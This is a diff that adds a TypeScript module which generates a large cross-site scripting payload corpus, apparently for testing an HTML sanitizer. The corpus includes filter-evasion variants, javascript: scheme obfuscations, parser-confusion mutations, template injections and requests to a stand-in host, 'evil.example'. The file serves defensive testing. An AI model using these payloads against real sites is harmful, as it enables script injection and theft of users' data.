@@ -1,0 +1,141 @@
+/** The function that a payload calls when it runs; a page that is watched has it. */
+export const canary = '__xss';
+
+/** The site that a payload asks for something; nothing may ever be asked of it. */
+export const elsewhere = 'https://evil.example';
+
+/** What runs: calls of the canary, written in ways that a filter of words does not find. */
+const calls = [
+  `${canary}(1)`,
+  `window['${canary}'](1)`,
+  `top[\`${canary}\`]\`1\``,
+  `self['\\x5f\\x5fxss'](1)`,
+  `(0,eval)(atob('${btoa(`${canary}(1)`)}'))`,
+  `new Image().src='${elsewhere}/c'`,
+];
+const [call = ''] = calls;
+
+/** Every letter as a character reference, with and without a semicolon, decimal and hexadecimal. */
+const spelt = [
+  (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
+  (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join(''),
+  (text: string) => [...text].map((letter) => `&#0000${letter.codePointAt(0)}`).join(''),
+];
+
+/** Elements that do something by themselves once they are there, with the attribute that says what. */
+const selfActing: readonly ((js: string) => string)[] = [
+  (js) => `<script>${js}</script>`,
+  (js) => `<SCRIPT type=module>${js}</SCRIPT >`,
+  (js) => `<script/x>${js}</script/x>`,
+  (js) => `<img src=x onerror="${js}">`,
+  (js) => `<img/src=x/onerror="${js}">`,
+  (js) => `<img src=x\nonerror\n=\n"${js}"\n>`,
+  (js) => `<IMG """><script>${js}</script>">`,
+  (js) => `<image src=x onerror="${js}">`,
+  (js) => `<svg onload="${js}">`,
+  (js) => `<svg><script>${js}</script></svg>`,
+  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
+  (js) => `<svg><set attributeName=onmouseover to="${js}"></svg>`,
+  (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
+  (js) => `<body onload="${js}">`,
+  (js) => `<iframe onload="${js}"></iframe>`,
+  (js) => `<iframe srcdoc='<script>top.${js}</script>'></iframe>`,
+  (js) => `<iframe src="javascript:top.${js}"></iframe>`,
+  (js) => `<embed src="javascript:${js}">`,
+  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
+  (js) => `<video><source onerror="${js}"></video>`,
+  (js) => `<audio src=x onerror="${js}"></audio>`,
+  (js) => `<input autofocus onfocus="${js}">`,
+  (js) => `<details open ontoggle="${js}">`,
+  (js) => `<marquee onstart="${js}">x</marquee>`,
+  (js) => `<style onload="${js}"></style>`,
+  (js) => `<link rel=stylesheet href=data:text/css, onload="${js}">`,
+  (js) => `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript>`,
+  (js) => `<template><img src=x onerror="${js}"></template>`,
+  (js) => `<textarea></textarea><img src=x onerror="${js}">`,
+  (js) => `<title></title><img src=x onerror="${js}">`,
+  (js) => `<!--><img src=x onerror="${js}">-->`,
+  (js) => `<!-- --!><img src=x onerror="${js}"> -->`,
+  (js) => `<![CDATA[><img src=x onerror="${js}">]]>`,
+  (js) => `<?x ><img src=x onerror="${js}">`,
+  (js) => `<p><style></p><img src=x onerror="${js}"></style>`,
+  (js) => `<select><style></select><img src=x onerror="${js}"></style>`,
+  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${js}">`,
+  (js) => `<a href="/x" title='<img src=x onerror="${js}">'>x</a>`,
+  (js) => `<p title="<img src=x onerror='${js}'>">x</p>`,
+  (js) => `<<img src=x onerror="${js}">`,
+  (js) => `<p <img src=x onerror="${js}">>`,
+  (js) => `<img src=x onerror="${js}"`,
+  (js) => `<x onclick="${js}" style="animation:x 1s" onanimationstart="${js}">x</x>`,
+];
+
+/** Elements that are allowed, with what is not: a handler that runs at once. */
+const allowed = ['p', 'strong', 'em', 'b', 'i', 'ul', 'li', 'h3', 'a', 'br'];
+const handlers = ['onfocus', 'onfocusin', 'onpointerrawupdate', 'onbeforetoggle', 'onanimationstart', 'onscrollend'];
+
+const schemes = [
+  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'java\0script:'],
+  ...[
+    'javascript&colon;',
+    'javascript&#58;',
+    '&#1;javascript:',
+    '\u2028javascript:',
+    '&Tab;javascript:',
+    'data:text/html,',
+  ],
+  ...[
+    'vbscript:',
+    'view-source:javascript:',
+    'x-javascript:',
+    'jar:javascript:',
+    'feed:javascript:',
+    'https:javascript:',
+  ],
+];
+const links: readonly ((href: string) => string)[] = [
+  (href) => `<a href="${href}">x</a>`,
+  (href) => `<a href='${href}'>x</a>`,
+  (href) => `<A HREF=${href}>x</A>`,
+  (href) => `<a title=x href="${href}" href="/terms">x</a>`,
+  (href) => `<a href="/terms" xlink:href="${href}">x</a>`,
+  (href) => `<svg><a xlink:href="${href}"><text>x</text></a></svg>`,
+  (href) => `<form action="${href}"><button>x</button></form>`,
+  (href) => `<button formaction="${href}">x</button>`,
+  (href) => `<base href="${href}">`,
+  (href) => `<meta http-equiv=refresh content="0;url=${href}">`,
+];
+
+const outward = [
+  `<img src="${elsewhere}/c">`,
+  `<p style="background:url(${elsewhere}/c)">x</p>`,
+  `<style>@import '${elsewhere}/c';</style>`,
+  `<link rel=prefetch href="${elsewhere}/c">`,
+  `<video poster="${elsewhere}/c"></video>`,
+  `<iframe src="${elsewhere}/c"></iframe>`,
+  `<object data="${elsewhere}/c"></object>`,
+  `<input type=image src="${elsewhere}/c">`,
+  `<svg><image href="${elsewhere}/c"/></svg>`,
+  `<a href="/x" ping="${elsewhere}/c">x</a>`,
+  `<table background="${elsewhere}/c"><tr><td>x</table>`,
+  `<meta http-equiv=refresh content="0;url=${elsewhere}/c">`,
+];
+
+/** What languages of templates would run, and this portal's own. */
+const templates = ['{{', '${', '<%=', '#{', '{%', '[[', '$t('].flatMap((open) => [
+  `${open}constructor.constructor('${call}')()`,
+  `${open} ${call} }}`,
+]);
+
+/** HTML that would do something where it is trusted, made by rules; hostile in parts or as a whole. */
+export const htmlPayloads: readonly string[] = [
+  ...new Set([
+    ...selfActing.flatMap((element) => calls.map(element)),
+    ...selfActing.flatMap((element) => spelt.map((spell) => element(spell(call)))),
+    ...allowed.flatMap((tag) =>
+      handlers.map((handler) => `<${tag} tabindex=0 autofocus ${handler}="${call}">x</${tag}>`),
+    ),
+    ...schemes.flatMap((scheme) => links.map((link) => link(scheme + call))),
+    ...outward,
+    ...templates,
+  ]),
+];
